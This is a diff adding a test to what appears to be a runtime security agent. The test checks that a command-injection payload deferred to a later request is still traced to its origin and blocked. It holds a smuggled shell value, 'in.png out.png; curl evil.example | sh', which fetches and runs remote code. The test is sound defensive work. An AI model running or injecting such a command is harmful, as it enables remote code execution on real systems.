@@ -2,6 +2,7 @@ import type { AgentMessage } from '../../../protocol/channel';
 import { parseConfig } from '../../../protocol/config';
 import type { Finding } from '../../../protocol/finding';
 import { Invocation } from '../context/invocation';
+import { detectShellCommand } from '../detectors/shell';
 import type { Verdict } from '../detectors/types';
 import { Agent } from './agent';
 
@@ -198,5 +199,31 @@ describe('Agent.check', () => {
       },
     );
     expect(findings()).toEqual([]);
+  });
+});
+
+describe('serial context: a payload that waits for the next invocation', () => {
+  it('is still correlated with the event that carried it (and blocked), under the later request id', () => {
+    const { agent, findings } = agentWith({ SENTINEL_CONTEXT: 'serial', SENTINEL_BLOCK: 'command_injection' });
+    const command = 'convert in.png out.png; curl evil.example | sh';
+    const check = () =>
+      agent.check(
+        'child_process.exec',
+        () => [command],
+        (inputs) => detectShellCommand(command, inputs),
+      );
+    // Request A carries the payload and schedules the command for later; it returns at once.
+    agent.context.begin(
+      new Invocation('req-a', { body: '{"name":"in.png out.png; curl evil.example | sh"}' }),
+      () => 0,
+    );
+    // The environment froze; the timer fires while request B (a benign event) runs.
+    let err: Error | undefined;
+    agent.context.begin(new Invocation('req-b', { body: '{"name":"world"}' }), () => {
+      err = check();
+    });
+    expect(err?.message).toMatch(/command_injection/);
+    expect(findings()[0]).toMatchObject({ category: 'command_injection', requestId: 'req-b', blocked: true });
+    expect(findings()[0].input?.path).toMatch(/^\(request req-a\)\$\.body<json>\.name/);
   });
 });
